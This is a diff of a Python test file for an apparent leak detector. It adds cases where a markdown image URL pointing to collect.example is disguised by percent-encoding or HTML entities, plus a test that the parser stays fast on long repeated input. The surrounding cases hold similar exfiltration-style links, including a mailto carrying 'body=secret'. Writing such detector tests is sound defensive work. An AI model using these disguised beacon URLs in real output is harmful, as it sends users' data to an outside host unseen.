@@ -89,6 +89,8 @@ def test_ordinary_addresses_are_no_leaks(text: str) -> None:
         ("![x](https&#58;//collect&period;example/c?d=1)", "https&#58;//collect&period;example/c?d=1"),
         (r"![x](https://collect\.example/c?d=1)", r"https://collect\.example/c?d=1"),
         ('<img src="ht\ntps://collect.example/c?d=1">', "ht\ntps://collect.example/c?d=1"),
+        ("![x](https://coll%65ct.example/c?d=1)", "https://coll%65ct.example/c?d=1"),
+        ("![x](https&#58;//coll&#101;ct.example/c?d=1)", "https&#58;//coll&#101;ct.example/c?d=1"),
         ("![x](https://ｃollect。example/c?d=1)", "https://ｃollect。example/c?d=1"),
         ("<img srcset='https://a.example/1x.png 1x, https://collect.example/c?d=1 2x'>", "https://collect.example/c?d=1"),
         ("[mail](mailto:x@collect.example?body=secret)", "mailto:x@collect.example?body=secret"),
@@ -130,6 +132,15 @@ def test_any_text_is_read(text: str) -> None:
     leaks_in(text)
     address_of(text)
     assert len(read(text).text) == len(read(text).starts) == len(read(text).ends)
+
+
+@pytest.mark.parametrize(
+    "piece",
+    ["](//a.example/?b ", "![", "<img src=", "srcset='", "&#", "\\", "[1]: ", "http:", "a:", "url(", "//a", "@"],
+)
+def test_a_long_text_of_one_piece_is_read(piece: str) -> None:
+    """Where what is done grows as the square of the text, this does not end within the time-out of a test."""
+    leaks_in(piece * (400_000 // len(piece)) + " https://collect.example/?d=1")
 
 
 class _Sources(HTMLParser):
